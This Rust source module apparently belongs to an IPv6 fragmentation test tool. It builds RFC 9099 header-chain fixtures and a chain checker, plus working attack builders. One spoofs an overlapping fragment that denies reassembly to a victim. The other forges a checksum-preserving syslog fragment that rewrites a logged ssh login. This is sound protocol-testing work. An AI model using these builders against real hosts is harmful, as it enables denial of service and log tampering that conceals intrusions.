//! Builders for the RFC 9099 header-chain experiments, the RFC 5722
//! denial-of-service fragment and the checksum-preserving modification attack.

use std::fmt::Write as _;
use std::fs;
use std::net::Ipv6Addr;
use std::ops::Range;
use std::path::Path;

use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::checksum::{self, ChecksumError, PseudoHeader};
use crate::models::{Endpoints, FragmentSpec, ModelKind, OverlapModel, PlannedFragment};
use crate::wire::{self, proto, ExtHeader, ExtHeaderChain, FragmentHeader, Frame, HeaderKind, Icmpv6Echo, UdpDatagram, UpperLayer, WireError};

/// Identification used by the fixed RFC 9099 fixtures.
pub const RFC9099_IDENTIFICATION: u32 = 0x0000_9099;
pub const RFC9099_ECHO_IDENTIFIER: u16 = 0x9099;

pub const SYSLOG_PORT: u16 = 514;
/// Priority prefix sent before the log line (facility 5, severity 3).
pub const SYSLOG_PRIORITY: &[u8] = b"<43> ";
/// Message bytes carried by the first and second fragments.
pub const SYSLOG_FIRST_MESSAGE_BYTES: usize = 51;
pub const SYSLOG_SECOND_MESSAGE_BYTES: usize = 56;

/// The ssh login line used by the modification-attack demo.
pub const EXAMPLE_SSH_LOG_LINE: &str = "Jun 1 20:47:08 git sshd[88459]: Accepted publickey for git from 10.10.10.100 port 49240 ssh2: ED25519 SHA256:vNTXCU7b6C6mqvcaH7j1/uRC5unllTpG5kCtd01xxoc";

#[derive(Debug, Error)]
pub enum ScenarioError {
    #[error(transparent)]
    Wire(#[from] WireError),
    #[error(transparent)]
    Checksum(#[from] ChecksumError),
    #[error("geometry mismatch: {0}")]
    GeometryMismatch(String),
    #[error(transparent)]
    Io(#[from] std::io::Error),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Rfc9099Experiment {
    /// Destination Options header arrives in the last fragment.
    IncompleteChainWithLateDestOptions,
    /// An empty offset-0 fragment precedes the one carrying the echo header.
    EmptyFirstFragment,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Rfc9099Expectation {
    SilentDrop,
    /// Silence is expected; a Parameter Problem code 3 is tolerated.
    SilentDropOrParamProblem,
}

#[derive(Debug, Clone)]
pub struct Rfc9099Case {
    pub experiment: Rfc9099Experiment,
    pub frames: Vec<Frame>,
    pub specs: Vec<FragmentSpec>,
    pub expected: Rfc9099Expectation,
}

pub fn rfc9099_model_one() -> OverlapModel {
    OverlapModel {
        kind: ModelKind::Rfc9099One,
        specs: vec![
            FragmentSpec::new('H', 0, 1, true).with_upper_header(),
            FragmentSpec::new('A', 1, 1, true),
            FragmentSpec::new('B', 2, 2, false),
        ],
        expected_extent_units: 4,
        checksum_basis: vec![0, 1, 2],
    }
}

pub fn rfc9099_model_two() -> OverlapModel {
    OverlapModel {
        kind: ModelKind::Rfc9099Two,
        specs: vec![
            FragmentSpec::new('N', 0, 0, true),
            FragmentSpec::new('H', 0, 1, true).with_upper_header(),
            FragmentSpec::new('B', 1, 1, false),
        ],
        expected_extent_units: 2,
        checksum_basis: vec![1, 2],
    }
}

fn echo_header(endpoints: &Endpoints, echo_identifier: u16, sequence: u16, rest: &[u8]) -> [u8; 8] {
    let mut echo = Icmpv6Echo::request(echo_identifier, sequence, rest.to_vec());
    echo.seal(endpoints.src, endpoints.dst);
    echo.header_bytes(echo.checksum)
}

/// Experiment 1 with the fixed identification.
pub fn rfc9099_experiment_one() -> Rfc9099Case {
    rfc9099_experiment_one_for(&Endpoints::default(), RFC9099_IDENTIFICATION, RFC9099_ECHO_IDENTIFIER, 0)
        .expect("fixed fixture serializes")
}

/// Three frames: the bare echo header at offset 0, "AAAAAAAA" at offset 1,
/// and a Destination Options header plus "BBBBBBBB" at offset 2 (M=0).
pub fn rfc9099_experiment_one_for(
    endpoints: &Endpoints,
    identification: u32,
    echo_identifier: u16,
    sequence: u16,
) -> Result<Rfc9099Case, WireError> {
    let header = endpoints.header();
    let dest_opts = ExtHeader::padded_options(HeaderKind::DestinationOptions, proto::NO_NEXT_HEADER);
    let mut third = dest_opts.bytes.clone();
    third.extend_from_slice(b"BBBBBBBB");

    let mut rest = b"AAAAAAAA".to_vec();
    rest.extend_from_slice(&third);
    let echo = echo_header(endpoints, echo_identifier, sequence, &rest);

    let icmp = ExtHeaderChain::empty(proto::ICMPV6);
    let frames = vec![
        wire::fragment_frame(&header, &icmp, 0, true, identification, &echo)?,
        wire::fragment_frame(&header, &icmp, 1, true, identification, b"AAAAAAAA")?,
        wire::serialize_packet(
            &header,
            &ExtHeaderChain::linked(
                vec![ExtHeader::fragment(FragmentHeader::new(proto::DESTINATION_OPTIONS, 2, false, identification)), dest_opts],
                proto::NO_NEXT_HEADER,
            ),
            b"BBBBBBBB",
        )?,
    ];
    Ok(Rfc9099Case {
        experiment: Rfc9099Experiment::IncompleteChainWithLateDestOptions,
        frames,
        specs: rfc9099_model_one().specs,
        expected: Rfc9099Expectation::SilentDrop,
    })
}

pub fn rfc9099_experiment_two() -> Rfc9099Case {
    rfc9099_experiment_two_for(&Endpoints::default(), RFC9099_IDENTIFICATION, RFC9099_ECHO_IDENTIFIER, 0)
        .expect("fixed fixture serializes")
}

/// Three frames: an empty offset-0 fragment with no upper-layer header, the
/// echo header at offset 0, and "BBBBBBBB" at offset 1 (M=0).
pub fn rfc9099_experiment_two_for(
    endpoints: &Endpoints,
    identification: u32,
    echo_identifier: u16,
    sequence: u16,
) -> Result<Rfc9099Case, WireError> {
    let header = endpoints.header();
    let echo = echo_header(endpoints, echo_identifier, sequence, b"BBBBBBBB");
    let icmp = ExtHeaderChain::empty(proto::ICMPV6);
    let frames = vec![
        wire::fragment_frame(&header, &ExtHeaderChain::empty(proto::NO_NEXT_HEADER), 0, true, identification, &[])?,
        wire::fragment_frame(&header, &icmp, 0, true, identification, &echo)?,
        wire::fragment_frame(&header, &icmp, 1, false, identification, b"BBBBBBBB")?,
    ];
    Ok(Rfc9099Case {
        experiment: Rfc9099Experiment::EmptyFirstFragment,
        frames,
        specs: rfc9099_model_two().specs,
        expected: Rfc9099Expectation::SilentDropOrParamProblem,
    })
}

/// Result of inspecting a first fragment's header chain.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ChainCheck {
    /// The chain ends in an upper-layer header present in this frame.
    pub reaches_upper_layer: bool,
    pub order_violations: Vec<String>,
    pub repetition_violations: Vec<String>,
}

impl ChainCheck {
    pub fn is_acceptable(&self) -> bool {
        self.reaches_upper_layer && self.order_violations.is_empty() && self.repetition_violations.is_empty()
    }
}

/// Checks whether a first fragment (or unfragmented packet) carries the whole
/// header chain up to an upper-layer header.
pub fn header_chain_complete(first_fragment: &Frame) -> Result<ChainCheck, WireError> {
    let parsed = wire::parse_frame(first_fragment)?;
    let upper = parsed.chain.upper;
    let reaches_upper_layer = match &parsed.upper {
        UpperLayer::NoNextHeader | UpperLayer::FragmentData => false,
        UpperLayer::Other(p) if HeaderKind::from_protocol(*p).is_some() => false,
        UpperLayer::Other(_) => !parsed.payload.is_empty(),
        _ => upper != proto::NO_NEXT_HEADER,
    };
    let violations = parsed.chain.order_violations();
    let (repetition_violations, order_violations): (Vec<String>, Vec<String>) =
        violations.into_iter().partition(|v| v.contains("repeat"));
    Ok(ChainCheck {
        reaches_upper_layer,
        order_violations,
        repetition_violations,
    })
}

/// Fill byte of the spoofed DoS fragment.
pub const DOS_FILL: u8 = 0xEE;

/// A spoofed fragment with the victim as source and the target's
/// identification, spanning `span` units with M=1.
pub fn dos_overlap_fragment(
    target_identification: u32,
    victim_source: Ipv6Addr,
    target: Ipv6Addr,
    span: Range<u16>,
) -> Result<PlannedFragment, WireError> {
    let endpoints = Endpoints {
        src: victim_source,
        dst: target,
        ..Endpoints::default()
    };
    let len = span.end.saturating_sub(span.start);
    let spec = FragmentSpec::new('X', span.start, len, true);
    let frame = wire::fragment_frame(
        &endpoints.header(),
        &ExtHeaderChain::empty(proto::ICMPV6),
        span.start,
        true,
        target_identification,
        &vec![DOS_FILL; len as usize * 8],
    )?;
    Ok(PlannedFragment { spec, frame })
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ForgeStrategy {
    /// Permute 16-bit groups of the original.
    Shuffle { seed: u64 },
    /// Use `text` and overwrite the 16-bit group at `slot` so the sum matches.
    DeltaCompensation { text: Vec<u8>, slot: usize },
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ForgedPayload {
    pub original: Vec<u8>,
    pub forged: Vec<u8>,
    pub strategy: ForgeStrategy,
}

pub fn forge_modification_fragment(original: &[u8], strategy: ForgeStrategy) -> Result<ForgedPayload, ScenarioError> {
    let forged = match &strategy {
        ForgeStrategy::Shuffle { seed } => checksum::checksum_preserving_shuffle(original, *seed),
        ForgeStrategy::DeltaCompensation { text, slot } => {
            if text.len() != original.len() {
                return Err(ScenarioError::GeometryMismatch(format!(
                    "forged text is {} bytes, fragment carries {}",
                    text.len(),
                    original.len()
                )));
            }
            let mut forged = text.clone();
            checksum::apply_compensation(original, &mut forged, *slot)?;
            forged
        }
    };
    Ok(ForgedPayload {
        original: original.to_vec(),
        forged,
        strategy,
    })
}

/// When the forged fragment is sent relative to the legitimate second one.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Injection {
    /// Wins under first-wins reassembly.
    BeforeSecond,
    /// Wins under last-wins reassembly.
    AfterSecond,
}

#[derive(Debug, Clone)]
pub struct SyslogAttack {
    /// Frames in send order, the forged one included.
    pub frames: Vec<PlannedFragment>,
    /// Index of the forged frame within `frames`.
    pub forged_index: usize,
    /// The legitimate UDP datagram (header included).
    pub original_datagram: Vec<u8>,
    pub udp_checksum: u16,
    /// Byte span of the second fragment within the datagram.
    pub second_span: Range<usize>,
}

/// UDP datagram carrying `<43> ` and the log line.
pub fn syslog_datagram(endpoints: &Endpoints, src_port: u16, dst_port: u16, log_line: &[u8]) -> Vec<u8> {
    let mut payload = SYSLOG_PRIORITY.to_vec();
    payload.extend_from_slice(log_line);
    UdpDatagram::new(src_port, dst_port, payload).seal(endpoints.src, endpoints.dst)
}

/// Split points of the syslog datagram: UDP header, priority and 51 message
/// bytes; 56 message bytes; the remainder.
pub fn syslog_split(datagram_len: usize) -> Result<[Range<usize>; 3], ScenarioError> {
    let first = wire::UDP_HEADER_LEN + SYSLOG_PRIORITY.len() + SYSLOG_FIRST_MESSAGE_BYTES;
    let second = first + SYSLOG_SECOND_MESSAGE_BYTES;
    if datagram_len <= second {
        return Err(ScenarioError::GeometryMismatch(format!(
            "datagram of {datagram_len} bytes is too short for a three-fragment split"
        )));
    }
    Ok([0..first, first..second, second..datagram_len])
}

pub fn syslog_attack_frames(
    endpoints: &Endpoints,
    identification: u32,
    log_line: &[u8],
    dst_port: u16,
    forged: &ForgedPayload,
    injection: Injection,
) -> Result<SyslogAttack, ScenarioError> {
    let datagram = syslog_datagram(endpoints, 40514, dst_port, log_line);
    let spans = syslog_split(datagram.len())?;
    if forged.forged.len() != spans[1].len() || forged.original != datagram[spans[1].clone()] {
        return Err(ScenarioError::GeometryMismatch(
            "forged payload does not replace the second fragment".into(),
        ));
    }
    let header = endpoints.header();
    let chain = ExtHeaderChain::empty(proto::UDP);
    let labels = ['U', 'S', 'T'];
    let mut legit = Vec::new();
    for (i, span) in spans.iter().enumerate() {
        let last = i == spans.len() - 1;
        let mut spec = FragmentSpec::new(labels[i], (span.start / 8) as u16, span.len().div_ceil(8) as u16, !last);
        if i == 0 {
            spec = spec.with_upper_header();
        }
        let frame = wire::fragment_frame(&header, &chain, spec.offset_units, !last, identification, &datagram[span.clone()])?;
        legit.push(PlannedFragment { spec, frame });
    }
    let forged_frame = PlannedFragment {
        spec: FragmentSpec { label: 'Z', ..legit[1].spec.clone() },
        frame: wire::fragment_frame(&header, &chain, legit[1].spec.offset_units, true, identification, &forged.forged)?,
    };
    let mut frames = legit;
    let forged_index = match injection {
        Injection::BeforeSecond => 1,
        Injection::AfterSecond => 2,
    };
    frames.insert(forged_index, forged_frame);
    let udp_checksum = u16::from_be_bytes([datagram[6], datagram[7]]);
    Ok(SyslogAttack {
        frames,
        forged_index,
        udp_checksum,
        second_span: spans[1].clone(),
        original_datagram: datagram,
    })
}

/// True when `datagram` carries a valid UDP checksum for `endpoints`.
pub fn udp_checksum_valid(endpoints: &Endpoints, datagram: &[u8]) -> bool {
    checksum::verify(&PseudoHeader::new(endpoints.src, endpoints.dst, proto::UDP, datagram.len()), datagram)
}

/// Hex dump: one frame per line.
pub fn frames_to_hex(frames: &[Frame]) -> String {
    let mut out = String::new();
    for f in frames {
        let _ = writeln!(out, "{}", f.to_hex());
    }
    out
}

/// Writes `rfc9099-e1.hex` and `rfc9099-e2.hex` into `dir`.
pub fn export_golden(dir: &Path) -> Result<Vec<std::path::PathBuf>, ScenarioError> {
    fs::create_dir_all(dir)?;
    let mut written = Vec::new();
    for (name, case) in [("rfc9099-e1.hex", rfc9099_experiment_one()), ("rfc9099-e2.hex", rfc9099_experiment_two())] {
        let path = dir.join(name);
        fs::write(&path, frames_to_hex(&case.frames))?;
        written.push(path);
    }
    Ok(written)
}
